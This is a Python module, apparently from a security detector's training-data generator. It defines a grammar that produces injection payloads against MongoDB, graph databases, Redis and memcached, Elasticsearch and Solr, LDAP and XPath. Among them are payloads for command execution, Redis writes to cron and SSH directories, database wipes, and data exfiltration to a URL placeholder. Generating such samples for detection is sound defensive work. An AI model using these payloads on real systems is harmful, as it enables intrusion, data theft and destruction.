"""Injection into document, graph, search and key-value stores, directories and XML queries, in more dialects."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import sometimes_percent
from securitai.train.corpora.kinds import COOKIE, NAME, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
who = username¦user¦login¦email¦password¦passwd¦pass¦pin¦otp¦token¦resetToken¦apiKey¦secret¦role¦accessCode
cmp = $ne¦$gt¦$nin¦$regex¦$where¦$not¦$gte¦$exists¦$lt¦$in
cmp1 = $ne¦$gt¦$regex¦$nin
nil:
  2×null
  2×""
  ''
  ‹d1›
  -1
  undefined
  "‹rnd›"
  "^‹c›"
  ".*"
  /.*/
  /^‹c›/i
  []
pair:
  3×"‹who›":{"‹cmp1›":‹nil›}
  2×‹who›: {‹cmp1›: ‹nil›}
  ‹who›:{$‹ne¦gt¦regex›:‹nil›}
  '‹who›':{'‹cmp1›':‹nil›}
  "‹who›":{"$regex":"^.{‹#1-40›}$"}
  "‹who›":{"$not":{"$eq":‹nil›}}
  "‹who›":{"$gte":"","$lt":"~"}
  "‹who›":{"$regex":"^‹c›‹rnd›","$options":"‹i¦s¦x›"}
  "$where":"‹js›"
  $where: '‹jsx›'
  $where: function(){ ‹jsx› }
split:
  4×‹pre›",‹?sp›‹pair›,‹?sp›"‹az›":"‹az›
  3×‹pre›"‹?sp›},‹?sp›{‹pair›,"‹az›":"
  3×‹pre›"},"$or":[{},{"‹az›":"‹c›
  2×‹pre›',‹?sp›‹pair›,‹?sp›‹az›:'‹az›
  2×‹pre›'}‹?sp›,‹?sp›$or:[‹?sp›{}‹?sp›,‹?sp›{‹az›:'
  ‹pre›",$or:[{‹az›:"‹c›"},{‹pair›}],"‹az›":"
  ‹pre›"}]}}},{"$lookup":{"from":"‹col1›","localField":"‹az›","foreignField":"_id","as":"‹az›"}},{"‹az›":"
  ‹pre›"}},{"$unionWith":"‹col1›"},{"$match":{"‹az›":"
  ‹pre›"}}}],"pipeline":[{"$out":"‹col1›"}],"‹az›":"
  ‹pre›'}).‹forEach¦map¦toArray›(function(‹c›){‹jsx›});db.‹col1›.find({'‹az›':'
  ‹pre›'});‹js0›;db.‹col1›.‹find¦insertOne¦deleteMany¦drop›({'‹az›':'
  3×{‹pair›, ‹pair›}
  {‹pair›}
  [‹pair2›]
  ‹who›[‹cmp1›]=‹rnd›&‹who›[‹cmp1›]=‹rnd›
  ‹who›=‹user›&‹who›[‹cmp1›]=
  ‹who›[$‹in¦nin›][]=‹user›&‹who›[$‹in¦nin›][]=‹user›&‹who›[$‹gt¦ne›]=
  ?‹who›[‹cmp1›]=‹rnd›
  array('‹who›'=>array('‹cmp1›'=>‹nil›))
  ["‹who›" => ["‹cmp1›" => ‹nil›]]
  db.‹col1›.find({‹pair›})
  db.‹col1›.‹findOne¦updateOne¦deleteMany›({‹pair›},{$set:{role:"admin"}})
  {"find":"‹col1›","filter":{‹pair›},"limit":‹n›
  {"$expr":{"$function":{body:function(){‹jsx›},args:[],lang:"js"}}}
  {$accumulator:{init:function(){‹jsx›},accumulate:function(){},accumulateArgs:[],merge:function(){},lang:"js"}}
  {"$group":{"_id":null,"‹az›":{"$accumulator":{"init":"function(){‹js›}","lang":"js"}}}}
pair2:
  {"$match":{‹pair›}},{"$project":{"‹who›":1}}
col1 = users¦accounts¦admins¦members¦sessions¦credentials¦customers¦tokens
js:
  sleep(‹#500-20000›)
  return this.‹who›.match(/^‹c›/)
  this.‹who›.startsWith('‹c›')
  this.‹who›.charCodeAt(‹#0-20›)>‹#32-126›
  Object.keys(this).length>‹d1›
  JSON.stringify(this).includes('‹az›')
  this.hasOwnProperty('‹who›')
  var s=Date.now();while(Date.now()-s<‹#500-20000›){};return true
  if(this.‹who›[‹#0-20›]=='‹c›'){sleep(‹#500-9000›)}
  throw new Error(JSON.stringify(this))
  return db.version()[0]=='‹d1›'
jsx:
  3×‹js›
  return ‹d1›==‹d1› || this.‹who›
  for(var i in this)print(i)
  return new RegExp("^‹c›").test(this.‹who›)
  return !this.‹az› || true
js0:
  db.‹col1›.‹drop()¦deleteMany({})¦find().toArray()›
  db.adminCommand({listDatabases:1})
  ‹js›
tail:
  3×//
  2×‹e›
  ‹nul›
  %00
  ||'‹c›'=='‹c›
  ;var ‹az›='‹c›
  <!--
  /*
op = ||¦&&¦ || ¦ && ¦%20||%20¦+||+
where:
  4×‹pre›'‹op›‹js›‹tail›
  3×‹pre›'‹op›'‹x=c›'=='‹$x›
  2×‹pre›"‹op›"‹x=c›"=="‹$x›
  2×‹pre›'‹op›true‹tail›
  2×‹pre›';‹js›;‹tail›
  2×‹pre›';return‹sp›‹true¦1¦!0›;var‹sp›‹az›='
  ‹pre›");‹js›;("
  ‹pre›'}‹op›‹js›;{'
  ‹pre›'‹op›this.‹who›!='
  ‹pre›'‹op›this.‹who›.match(/‹c›.*/)‹tail›
  ‹pre›'-(‹js›)-'
  ‹pre›'‹op›(()=>{‹js›})()‹op›'
  ‹pre›'‹op›isNaN('‹c›')‹op›'
  (function(){‹jsx›})()
  '+(this.‹who›)+'
lbl = User¦Account¦Person¦Admin¦Session¦Customer¦n
cy:
  RETURN ‹c›
  RETURN 1 UNION MATCH (‹c›:‹lbl›) RETURN ‹c›.‹who›
  MATCH (‹c›) DETACH DELETE ‹c›
  MATCH (‹c›:‹lbl›) SET ‹c›.role='admin'
  WITH ‹d1› AS ‹x=c› MATCH (u:‹lbl›) RETURN u
  CALL dbms.‹components()¦listConfig()¦security.listUsers()¦procedures()› YIELD name RETURN name
  CALL db.‹labels()¦propertyKeys()¦schema.visualization()› YIELD ‹az›
  LOAD CSV FROM '‹url›/'+n.‹who› AS ‹az› RETURN ‹az›
  LOAD CSV FROM 'file://‹u_file›' AS ‹x=az› RETURN ‹$x›
  CALL apoc.‹load.json¦cypher.run¦load.jsonParams¦systemdb.execute¦util.sleep›('‹url›'‹,{}¦›) YIELD value RETURN value
  CALL apoc.util.sleep(‹#500-20000›) RETURN 1
graph:
  4×‹pre›‹cq› OR ‹d1›=‹d1› ‹cy›‹ctail›
  3×‹pre›‹cq›}) ‹cy›‹ctail›
  2×‹pre›‹cq›})-[:‹AZ6›]->(b) ‹cy›‹ctail›
  ‹pre›‹cq›) ‹cy›‹ctail›
  ‹pre›‹cq›‹nl›‹cy›‹nl›UNION MATCH (x) RETURN x ‹ctail›
  ‹pre›` ) ‹cy›‹ctail›
  ‹pre›‹cq› OR exists(n.‹who›) AND n.‹who› STARTS WITH '‹c›' ‹ctail›
  ‹pre›‹cq› AND n.‹who› =~ '‹c›.*' ‹ctail›
  ‹pre›').‹drop()¦property('role','admin')¦values('password')¦sideEffect{System.exit(0)}›.iterate()//
  ‹pre›').or(has('‹who›'))‹ctail›
  g.V().drop().iterate()
  g.V().map{Runtime.getRuntime().exec("‹ucmd0›")}
  ‹pre›‹cq› || ‹d1› == ‹d1› FOR ‹c› IN ‹col1› ‹REMOVE¦RETURN› ‹c› ‹ctail›
  ‹pre›‹cq› RETURN (FOR ‹c› IN ‹_users¦users¦accounts› RETURN ‹c›) ‹ctail›
  ‹pre›‹cq› LET ‹x=az›=(FOR d IN ‹col1› REMOVE d IN ‹col1›) RETURN ‹$x›‹ctail›
  ‹pre›‹cq› || SLEEP(‹#1-30›) || ‹cq›
  ‹pre›‹cq› UNION SELECT META().id,‹who› FROM system:‹keyspaces¦user_info¦my_user_info› ‹ctail›
  ‹pre›‹cq› OR CURL("‹url›",{}) ‹ctail›
  ‹pre›‹cq› OR ENCODE_JSON((SELECT * FROM system:‹datastores¦keyspaces›))!='' ‹ctail›
  ‹pre›‹cq› ALLOW FILTERING; ‹DROP KEYSPACE¦TRUNCATE¦DROP TABLE› ‹col1›;--
  ‹pre›‹cq› OR IS_DEFINED(c.‹who›) OR c.‹az›=‹cq›
  ‹pre›‹cq› OR true OR c.id='
  ‹pre›‹cq›} UNION {?s ?p ?o} #
  ‹pre›‹cq› . ?s ?p ?o } #
  ‹pre›"}} ; DROP ALL ; INSERT DATA {<‹c›> <‹c›> "
  ‹pre›"). SERVICE <‹url›> {?s ?p ?o} #
  ‹pre›"^^xsd:string . FILTER(regex(?‹who›,"^‹c›")) } #
  ‹pre›‹cq› | filter‹sp›‹d1›==‹d1› | limit‹sp›‹n› //
  ‹pre›‹cq›; kv.delete("‹az›")
ctail:
  4×//
  2×‹e›
  /*
  ‹sp›//
cq = '¦"¦'¦"¦\'
rk:
  FLUSHALL
  CONFIG SET dir ‹/var/www/html¦/tmp¦/root/.ssh¦/var/spool/cron›
  CONFIG SET dbfilename ‹rnd›.‹php¦so¦rdb¦jsp›
  SLAVEOF ‹host› ‹port›
  REPLICAOF ‹host› ‹port›
  EVAL "‹lua›" 0
  SET ‹az› "‹nl›‹nl›*/1 * * * * ‹ucmd1›‹nl›"
  MODULE LOAD /tmp/‹rnd›.so
  DEBUG SLEEP ‹#1-30›
  flush_all
rkw:
  2×‹rk›
  KEYS *
  SAVE
  QUIT
  set ‹az› 0 ‹#1-9999› ‹#1-99›‹crlf›‹rnd›
  get ‹az›
  stats ‹slabs¦items¦cachedump 1 100›
  incr ‹az› ‹n›
lua:
  return redis.call('‹keys¦get¦config¦info¦flushall›','‹*¦az›')
  local f=io.popen('‹ucmd0›');return f:read('*a')
  return os.execute('‹ucmd0›')
  for _,k in ipairs(redis.call('keys','*')) do redis.call('del',k) end
cache:
  3×‹pre›‹crlf›‹rk›‹crlf›
  2×‹pre›‹crlf›‹rkw›‹crlf›‹rk›‹crlf›‹rkw›
  ‹pre›‹crlf›‹crlf›set ‹az› 0 ‹#1-9999› ‹#1-99›‹crlf›‹rnd›‹crlf›
  ‹pre›‹crlf›stats ‹slabs¦items¦cachedump 1 100›‹crlf›quit‹crlf›
  ‹pre›%0d%0a‹rk›%0d%0a‹?rk›
  ‹pre›\r\n‹rkw›\r\n‹rk›
  ‹pre›‹nl›‹rk›‹nl›‹rkw›‹nl›
  *‹d1›‹crlf›$‹#1-9›‹crlf›‹flushall¦config¦slaveof¦eval›‹crlf›$‹d1›‹crlf›‹rnd›‹crlf›
  *1%0D%0A$8%0D%0Aflushall%0D%0A*3%0D%0A$3%0D%0Aset%0D%0A$‹d1›%0D%0A‹rnd›
  ‹pre›"]); redis.‹call¦pcall›("‹flushall¦config¦del¦keys›","‹az›") --
  ‹pre›') redis.call('‹del¦flushall¦set›','‹az›') --
  EVAL "‹lua›" 0
search:
  {"script_fields":{"‹az›":{"script":"‹painless›"}}}
  {"script":{"lang":"‹groovy¦painless¦mvel¦python›","source":"‹painless›"}}
  {"size":‹d1›,"script_fields":{"‹az›":{"script":"‹painless›","lang":"‹groovy¦mvel›"}}}
  ‹painless›
  ‹pre›")) OR (*:* AND ‹who›:*‹c›*
  ‹pre›" OR _exists_:‹who› OR "
  ‹pre›) OR ‹who›:/‹c›.*/ OR (
  {!xmlparser v='<!DOCTYPE a SYSTEM "‹url›"><a></a>'}
  ‹pre›&shards=‹host›:‹port›/solr/‹az›&qt=/config
  ‹pre›&stream.body={"add-listener":{"event":"postCommit","name":"‹az›","class":"solr.RunExecutableListener","exe":"sh"}}
  #set($‹x=az›='') #set($rt=$‹$x›.class.forName('java.lang.Runtime')) $rt.getRuntime().exec('‹ucmd0›')
  ‹pre›"}},{"bool":{"must":{"match_all":{}},"boost":"
  ‹pre›"]},{"query":{"match_all":{}},"index":"‹.security¦*¦.kibana¦az›
  ‹pre›" OR attribute_exists(‹who›) OR "
painless:
  java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"‹ucmd0›\").getText()
  import java.util.*;import java.io.*;new Scanner(Runtime.getRuntime().exec(\"‹ucmd0›\").getInputStream()).useDelimiter(\"\\\\A\").next();
  def ‹x=az›=Class.forName('java.lang.Runtime');‹$x›.getRuntime().exec('‹ucmd0›')
  \"‹ucmd0›\".execute().text
  ‹x=az›=new java.io.File('‹u_file›').text
nmx:
  2×‹who›[‹cmp›]
  3×‹az›[‹who›][‹cmp›]
  ‹az›‹_¦›‹who›[‹cmp›]
  ‹az›.‹who›[‹cmp›]
  ‹az›[‹#0-9›][‹who›][‹cmp›]
  ‹who›[‹cmp›][‹#0-3›]
  ‹who›.‹$ne¦$gt¦$regex¦$where›
  ‹where¦filter¦query¦q¦conditions›[‹who›][‹cmp›]
  ‹who›[$not][$‹eq¦regex¦in›]
  $or[‹#0-3›][‹who›][‹cmp›]
  ‹who›[‹__ne¦neq¦nlike›]
  ‹$where¦$func¦$expr¦$function›[‹az›]
  ‹az›[$where]
  ‹who›%5B‹cmp›%5D
  ["‹who›"]["‹cmp›"]
  ‹who›[‹cmp›]=‹rnd›&x
att = uid¦cn¦mail¦userPassword¦sAMAccountName¦objectClass¦memberOf¦sn¦description¦ou¦userPrincipalName¦employeeNumber
lval:
  2×*
  ‹c›*
  *‹c›*
  ‹user›
  ‹rnd›
ldap:
  4×‹user›*)(‹att›=‹lval›
  3×‹pre›)(‹|¦&¦!›(‹att›=‹lval›)
  3×‹pre›*))(|(‹att›=‹lval›)
  2×*)(‹att›=‹lval›))(‹|¦&›(‹att›=‹lval›
  2×‹user›)(&(‹att›=‹lval›))(|(‹att›=‹lval›
  ‹user›)(‹att›=‹lval›))‹nul›
  ‹user›)(‹att›>=‹c›)(‹att›<=‹c›
  ‹user›,‹ou¦dc¦cn›=‹az›)(‹att›=‹lval›
  ‹pre›\29\28‹att›\3d\2a
  ‹pre›%29%28‹att›%3D‹lval›%29%00
  *)(!(‹att›=‹lval›))(‹att›=*
  *)(‹att›:caseExactMatch:=‹c›*
  *)(‹att›:dn:2.5.13.5:=‹c›*
  ‹user›))(|(‹att›=*)(&(‹att›=‹lval›
  ‹rnd›)(|(‹att›=‹user›)(‹att›=‹user›)
xnode = user¦username¦password¦account¦employee¦item¦node()¦*¦@id¦login¦credential¦record¦secret
xt:
  '‹x=az›'='‹$x›
  ‹xcond› and '‹x=c›'='‹$x›
  ‹xcond› or ''='
  ''='
xcond:
  ‹x=d1›=‹$x›
  string-length(//‹xnode›[‹d1›])‹>¦=¦<›‹#1-40›
  substring(//‹xnode›[‹d1›]/text(),‹#1-20›,1)='‹c›'
  count(//‹xnode›)‹>¦=›‹d1›
  starts-with(name(/*[1]),'‹c›')
  contains(//‹xnode›[‹d1›],'‹az›')
  string-to-codepoints(substring(//‹xnode›[1],‹d1›,1))>‹#32-126›
  doc-available('‹url›')
  unparsed-text-available('file://‹u_file›')
  boolean(//‹xnode›)
  normalize-space(//‹xnode›[last()])!=''
  matches(//‹xnode›[‹d1›],'^‹c›')
xpath:
  4×‹pre›‹xq› or ‹xt›
  3×‹pre›' and ‹xt›
  2×‹pre›'] | //‹xnode›[‹xcond›] | //‹xnode›['
  2×‹pre›')] | //‹xnode›/‹text()¦@*¦..› | //*[contains(.,'
  ‹pre›'] /‹parent::*¦ancestor::*¦following-sibling::*›[‹xcond›] | ‹c›['
  ‹pre›"‹sp›or‹sp›‹xcond›‹sp›or‹sp›"‹x=c›"="‹$x›
  ‹pre›' or //‹xnode›[‹xcond›] or '
  ‹pre› or ‹xcond›]|//‹xnode›[‹d1›
  ‹pre›' or doc(concat('‹url›/?',encode-for-uri(//‹xnode›[1]))) or '
  ‹pre›'] return (insert node <‹x=az›/> into /‹xnode›) (:
  ‹pre›' let $‹x=az› := unparsed-text('‹u_file›') return $‹$x› (:
  ‹pre›'), file:read-text('‹u_file›'), ('
  ‹pre›') , proc:system('‹ucmd0›') , ('
  ‹pre›', system-property('‹xsl:vendor¦os.name¦java.version›'), '
  ‹pre›"}}, xdmp:‹eval¦document-get¦spawn›("‹u_file›"), {{"
xq = '¦'¦')
""",
    PARTS,
)
_N = Category.NOSQLI
KINDS = (
    AttackKind("nosqli_more.split", _N, _G.maker("split", sometimes_percent), 0.9, (VALUE, COOKIE)),
    AttackKind("nosqli_more.where", _N, _G.maker("where", sometimes_percent), 0.7),
    AttackKind("nosqli_more.graph", _N, _G.maker("graph", sometimes_percent), 0.8),
    AttackKind("nosqli_more.cache", _N, _G.maker("cache"), 0.5),
    AttackKind("nosqli_more.search", _N, _G.maker("search"), 0.4),
    AttackKind("nosqli_more.name", _N, _G.maker("nmx"), 0.4, (NAME,)),
    AttackKind("nosqli_more.ldap", Category.LDAPI, _G.maker("ldap", sometimes_percent), 0.6),
    AttackKind("nosqli_more.xpath", Category.XPATH, _G.maker("xpath", sometimes_percent), 0.7),
)
